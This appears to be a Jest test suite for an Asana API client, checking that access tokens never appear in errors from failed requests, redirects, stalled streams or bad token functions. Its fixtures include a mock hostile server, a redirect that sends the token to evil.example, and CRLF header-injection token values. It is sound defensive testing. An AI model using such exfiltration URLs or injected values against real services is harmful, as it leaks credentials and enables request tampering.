// The token, in any form, reaches no error of any failure path: checked by the token scanner.
import { describe, expect, test } from "@jest/globals";
import {
  AsanaError,
  BadRequestError,
  ConnectionError,
  ForbiddenError,
  JobFailedError,
  NotFoundError,
  PaymentRequiredError,
  RateLimitError,
  ServerError,
  TimeoutError,
  UnauthorizedError,
} from "../../src/index.ts";
import { caught, clientWith, json, ok, scripted } from "./scripted.ts";
import { TOKENS, encodings, leaksOf } from "./token-scan.ts";

const named = Object.entries(TOKENS);

/** Every encoding of the token, and the Authorization header as received, in one text. */
function echoText(token: string, request: Request): string {
  return `${Object.values(encodings(token)).join(" | ")} | got ${request.headers.get("authorization")} | url ${request.url}`;
}

/** A hostile upstream that echoes the credential in every field and header it can. */
function hostile(status: number, token: string, extra: Record<string, string> = {}) {
  return (request: Request) => {
    const text = echoText(token, request);
    const headers: Record<string, string> = { "x-seen-authorization": request.headers.get("authorization") ?? "", ...extra };
    for (const [form, value] of Object.entries(encodings(token))) headers[`x-echo-${form.toLowerCase()}`] = value;
    // A token made of header-name characters can even come back as a header name.
    if (/^[A-Za-z0-9!#$%&'*+.^_`|~-]+$/.test(token)) headers[`x-${token}`] = "1";
    return json(status, { errors: [{ message: text, help: text, phrase: text }], detail: text }, headers);
  };
}

/** A body that sends `first`, then fails or stalls. */
function brokenBody(first: string, then: "error" | "stall", reason?: string): ReadableStream<Uint8Array> {
  return new ReadableStream({
    start(controller) {
      controller.enqueue(new TextEncoder().encode(first));
      if (then === "error") controller.error(new Error(reason));
    },
  });
}

describe.each(named)("the %s token reaches no error", (_name, token) => {
  const client = (fetch: (request: Request) => Promise<Response>, options = {}) => clientWith(fetch, { token, retry: false, ...options });

  test.each([
    [400, BadRequestError],
    [401, UnauthorizedError],
    [402, PaymentRequiredError],
    [403, ForbiddenError],
    [404, NotFoundError],
    [429, RateLimitError],
    [500, ServerError],
    [503, ServerError],
    [418, AsanaError],
  ])("%i → %p, whose body and headers echo it in every encoding", async (status, ErrorClass) => {
    const wire = scripted([hostile(status, token, status === 429 ? { "retry-after": "1" } : {})]);
    const error = await caught(() => client(wire.fetch).tasks.get("7", { opt_fields: [token, "name"] }));
    expect(error).toBeInstanceOf(ErrorClass);
    expect((error as AsanaError).status).toBe(status);
    expect(wire.sent[0]!.headers.get("authorization")).toBe(`Bearer ${token}`); // it did go on the wire
    expect((error as AsanaError).headers.get("x-echo-asis")).not.toBeNull(); // the headers are kept, redacted
    expect(leaksOf(error, token)).toEqual([]);
  });

  test("a non-JSON error page echoing it", async () => {
    const wire = scripted([(request) => new Response(`<html><body>502 Bad Gateway ${echoText(token, request)}</body></html>`, { status: 502 })]);
    const error = await caught(() => client(wire.fetch).tasks.get("7"));
    expect(error).toBeInstanceOf(ServerError);
    expect((error as Error).message).toContain("502 Bad Gateway");
    expect(leaksOf(error, token)).toEqual([]);
  });

  test("a 2xx body that is not JSON and echoes it (V8's JSON error quotes the text)", async () => {
    const wire = scripted([(request) => new Response(`${token}<oops ${echoText(token, request)}`, { status: 201 })]);
    const error = await caught(() => client(wire.fetch).tasks.create({ name: "x", workspace: "1" }));
    expect(error).toBeInstanceOf(ConnectionError);
    expect(leaksOf(error, token)).toEqual([]);
  });

  test("a 2xx body cut off mid-stream, after echoing it", async () => {
    const wire = scripted([() => new Response(brokenBody(`{"data":{"token":"${token}`, "error", `reset by ${token}`), { status: 200 })]);
    const error = await caught(() => client(wire.fetch).tasks.get("7"));
    expect(error).toBeInstanceOf(ConnectionError);
    expect(leaksOf(error, token)).toEqual([]);
  });

  test("a connection error whose message, cause chain and extra fields carry it", async () => {
    let thrown: Error | undefined;
    const wire = scripted([], (request) => {
      const socket = Object.assign(new Error(`socket hang up, ${echoText(token, request)}`), { code: "ECONNRESET", config: { token } });
      thrown = Object.assign(new TypeError(`connect failed for ${request.headers.get("authorization")}`, { cause: socket }), {
        request,
        config: { headers: { Authorization: `Bearer ${token}` } },
      });
      throw thrown;
    });
    const error = (await caught(() => client(wire.fetch).tasks.create({ name: "x", workspace: "1" }))) as ConnectionError;
    expect(error).toBeInstanceOf(ConnectionError);
    // The cause is a redacted copy: same class, name, message (redacted) and code; nothing else.
    const cause = error.cause as TypeError & { cause: Error & { code?: string } };
    expect(cause).not.toBe(thrown);
    expect(cause).toBeInstanceOf(TypeError);
    expect(cause.message).toMatch(/^connect failed for Bearer /);
    expect(cause.cause.code).toBe("ECONNRESET");
    expect(Object.keys(cause)).toEqual([]);
    expect(leaksOf(error, token)).toEqual([]);
  });

  test.each<[string, (request: Request) => unknown]>([
    ["an AggregateError", (r) => new AggregateError([new Error(echoText(token, r))], `all failed ${token}`)],
    ["a string", (r) => `failed: ${echoText(token, r)}`],
    ["a plain object", (r) => ({ message: `failed ${token}`, request: r })],
  ])("a fetch that throws %s", async (_what, make) => {
    const wire = scripted([], (request) => {
      throw make(request);
    });
    const error = await caught(() => client(wire.fetch).tasks.get("7"));
    expect(error).toBeInstanceOf(ConnectionError);
    expect(leaksOf(error, token)).toEqual([]);
  });

  test("a timeout, in flight and while a body stalls", async () => {
    const hang = scripted(["hang"]);
    expect(leaksOf(await caught(() => client(hang.fetch).tasks.get("7", { timeoutMs: 5, opt_fields: [token] })), token)).toEqual([]);
    const stall = scripted([() => new Response(brokenBody(`{"data":"${token}`, "stall"), { status: 200 })]);
    const error = await caught(() => client(stall.fetch).tasks.get("7", { timeoutMs: 20, opt_fields: [token] }));
    expect(error).toBeInstanceOf(TimeoutError);
    expect(leaksOf(error, token)).toEqual([]);
  });

  test("a failed job whose every field echoes it", async () => {
    const text = Object.values(encodings(token)).join(" ");
    const wire = scripted([ok({ gid: "j1", status: "failed", resource_subtype: text, name: text, new_task: { gid: "2", name: text } })]);
    const error = (await caught(() => client(wire.fetch).jobs.wait("j1"))) as JobFailedError;
    expect(error).toBeInstanceOf(JobFailedError);
    expect(error.job.status).toBe("failed");
    expect(error.message).toBe("Job j1 failed; see error.job");
    expect(leaksOf(error, token)).toEqual([]);
  });

  test("a token function that throws with the token it gave before", async () => {
    let calls = 0;
    const source = () => {
      if (++calls === 1) return token;
      throw Object.assign(new Error(`refresh failed; old token ${token}`, { cause: new Error(encodeURIComponent(token)) }), { token });
    };
    const wire = scripted([]);
    const asana = client(wire.fetch, { token: source });
    await asana.tasks.get("1");
    const error = await caught(() => asana.tasks.get("2"));
    expect((error as Error).message).toMatch(/^refresh failed; old token /); // its own message, redacted
    expect(wire.sent).toHaveLength(1);
    expect(leaksOf(error, token)).toEqual([]);
  });

  test("a redirect whose Location carries it", async () => {
    const wire = scripted([(request) => json(302, {}, { location: `https://evil.example/?t=${encodeURIComponent(token)}&a=${request.headers.get("authorization")}` })]);
    const error = await caught(() => client(wire.fetch).tasks.get("7"));
    expect(error).toBeInstanceOf(AsanaError);
    expect((error as AsanaError).status).toBe(302);
    expect(leaksOf(error, token)).toEqual([]);
  });

  test("raw: a connection error, and a request refused for leaving the baseUrl with the token in its query", async () => {
    const wire = scripted([], (request) => {
      throw new TypeError(`failed ${request.headers.get("authorization")}`);
    });
    const asana = client(wire.fetch, { baseUrl: "https://app.asana.com" });
    const failed = await caught(() => asana.raw.GET("/tasks/{task_gid}", { params: { path: { task_gid: "1" }, query: { opt_fields: [token] } } }));
    expect(failed).toBeInstanceOf(ConnectionError);
    expect(leaksOf(failed, token)).toEqual([]);
    const refused = await caught(() => asana.raw.GET(`.evil.example/?t=${token}` as never));
    expect(refused).toBeInstanceOf(TypeError);
    expect(leaksOf(refused, token)).toEqual([]);
  });
});

describe("tokens that could not go in a header", () => {
  test.each([
    ["a line break", "abc\r\nX-Injected: 1"],
    ["a trailing newline", "0/1234567890abcdef\n"],
    ["a NUL", "0/1234567890\u0000abcdef"],
    ["DEL", "0/1234567890\u007fabcdef"],
    ["a space", "0/12345 67890abcdef"],
    ["a non-ASCII letter", "0/1234567890abcdéf"],
  ])("%s is refused at creation, in a message that does not quote it", (_what, token) => {
    const error = (() => {
      try {
        clientWith(scripted([]).fetch, { token });
      } catch (e) {
        return e;
      }
    })();
    expect(error).toBeInstanceOf(TypeError);
    expect((error as Error).message).toMatch(/token/);
    expect(leaksOf(error, token.trim())).toEqual([]);
  });

  test("from a token function: the call fails with a TypeError that does not quote it, sending nothing", async () => {
    const token = "0/1234567890abcdef\r\nX-Injected: yes";
    const wire = scripted([]);
    const error = await caught(() => clientWith(wire.fetch, { token: async () => token }).tasks.get("1"));
    expect(error).toBeInstanceOf(TypeError);
    expect(leaksOf(error, "0/1234567890abcdef")).toEqual([]);
    expect(wire.sent).toHaveLength(0);
  });
});

describe("what errors keep", () => {
  test("never the request's headers; the response's, redacted; toJSON has every field", async () => {
    const wire = scripted([hostile(404, TOKENS.pat)]);
    const error = (await caught(() => clientWith(wire.fetch, { token: TOKENS.pat }).tasks.get("7"))) as AsanaError;
    expect(error.headers.get("authorization")).toBeNull();
    expect(error.headers.get("x-seen-authorization")).toBe("Bearer [redacted]");
    expect(Object.keys(error.toJSON()).sort()).toEqual(["errors", "headers", "message", "method", "name", "status", "url"]);
  });

  test("Asana's phrase is kept when it holds no token", async () => {
    const wire = scripted([json(500, { errors: [{ message: "Server Error", phrase: "6 sad squid snuggle softly" }] })]);
    const error = (await caught(() => clientWith(wire.fetch, { retry: false }).tasks.get("7"))) as ServerError;
    expect(error.phrase).toBe("6 sad squid snuggle softly");
  });
});
